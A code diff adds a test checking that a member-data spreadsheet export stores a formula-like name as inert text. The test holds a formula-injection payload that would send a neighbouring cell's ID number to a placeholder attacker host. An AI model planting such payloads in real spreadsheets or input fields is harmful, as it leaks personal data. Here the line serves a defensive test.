@@ -215,6 +215,21 @@ def test_the_officer_exports_their_own_unit_with_full_id_numbers(
     assert [row[1] for row in rows[1:]] == [world.member_a_id_number]
 
 
+def test_a_member_named_like_a_formula_exports_as_text(
+    client: TestClient, db: Session, world: World
+) -> None:
+    """The outside test's member, exported next to the full ID number it would have sent."""
+    evil = '=WEBSERVICE("http://evil.example/?"&B2)'
+    member = db.get(Member, world.member_a)
+    assert member is not None
+    member.name = evil
+    db.commit()
+    login(client, "unit_officer")
+    sheet = load_workbook(io.BytesIO(client.get("/exports/members.xlsx").content)).active
+    assert sheet["A2"].value == evil
+    assert sheet["A2"].data_type == "s"
+
+
 def test_the_openapi_schema_lists_the_api(client: TestClient) -> None:
     schema = client.get("/api/v1/openapi.json").json()
     assert "/api/v1/members" in schema["paths"]
